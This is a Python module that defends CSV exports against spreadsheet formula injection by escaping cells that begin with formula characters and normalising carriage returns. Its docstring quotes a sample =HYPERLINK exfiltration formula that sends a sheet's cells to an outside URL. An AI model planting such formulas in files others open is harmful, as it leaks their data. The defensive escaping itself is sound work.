"""CSV cells that a spreadsheet will not run. A video's title, uploader or licence, and a site's
error message, come from outside; written into a CSV that someone opens in Excel or LibreOffice, a
cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is read as a
formula — ``=HYPERLINK("http://…?"&A1, "click")`` sends the sheet's cells away. Such a text cell
is written with a leading ``'``, which spreadsheets show as text and hide (OWASP's advice for CSV
injection). A carriage return inside text becomes a newline: the files end lines with ``\n``, and
Python's csv writer quotes only the cells holding that, so a bare ``\r`` would split a row for
every reader. Only the CSV files do this: ``manifest.jsonl``, ``manifest.parquet`` and the state
files keep every value as it came."""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """``value`` with a ``'`` in front when it is text a spreadsheet would read as a formula, its
    carriage returns as newlines; numbers (a negative score is data, not a formula) unchanged."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS):
        value = "'" + value
    return value.replace("\r\n", "\n").replace("\r", "\n")
